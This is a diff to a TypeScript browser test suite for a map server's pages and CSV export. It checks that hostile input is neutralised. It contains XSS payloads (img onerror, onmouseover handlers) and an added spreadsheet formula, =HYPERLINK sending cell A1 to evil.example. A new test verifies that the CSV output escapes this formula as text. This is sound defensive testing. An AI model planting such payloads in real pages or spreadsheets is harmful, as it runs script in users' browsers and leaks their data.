@@ -35,6 +35,8 @@ const keywords = [hostile.img, 'thử'];
 const fileName = '<img src=x onerror=window.__xss=1>.geojson';
 const legendLabel = `${hostile.svg} nhóm A`;
 const propertyName = '<b onmouseover=window.__xss=1>tên</b>';
+/** A cell a spreadsheet program would run (it sends A1 to another site when the sheet opens). */
+const formula = '=HYPERLINK("http://evil.example/?d="&A1,"xem")';
 
 type TestWindow = Window & { __xss?: unknown; viewerStats: { ready: boolean; layers: string[] }; viewerMap: import('leaflet').Map };
 
@@ -116,7 +118,7 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
     const [lon, lat] = centre;
     const features = [-1, 1].map((k, i) => ({
       type: 'Feature',
-      properties: { loai: i === 0 ? hostile.img : hostile.script, ten: `${hostile.svg} thửa ${i}`, [propertyName]: hostile.attr, so: -5 - i },
+      properties: { loai: i === 0 ? hostile.img : hostile.script, ten: `${hostile.svg} thửa ${i}`, [propertyName]: hostile.attr, so: -5 - i, cong_thuc: formula },
       geometry: square(lon + k * 0.0006, lat, 50),
     }));
     const geojson = JSON.stringify({ type: 'FeatureCollection', features });
@@ -229,6 +231,15 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
       await noScriptRan();
     }
     await shot('items-html');
+  });
+
+  it('writes formula-like values into items f=csv as text, and negative numbers as numbers', async () => {
+    const res = await fetch(`${server().url}/collections/${layerId}/items?f=csv&properties=so,cong_thuc`);
+    expect(res.status).to.equal(200);
+    const lines = (await res.text()).replace(/^\uFEFF/, '').split('\r\n');
+    expect(lines[0]).to.equal('id,so,cong_thuc,geometry');
+    const cells = lines.slice(1, 3).map((l) => l.split(',"POLYGON')[0]);
+    for (const c of cells) expect(c).to.match(/^\d+,-[56],"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""xem""\)"$/);
   });
 
   it('ran no injected script, and the pages needed nothing the CSP forbids', () => {
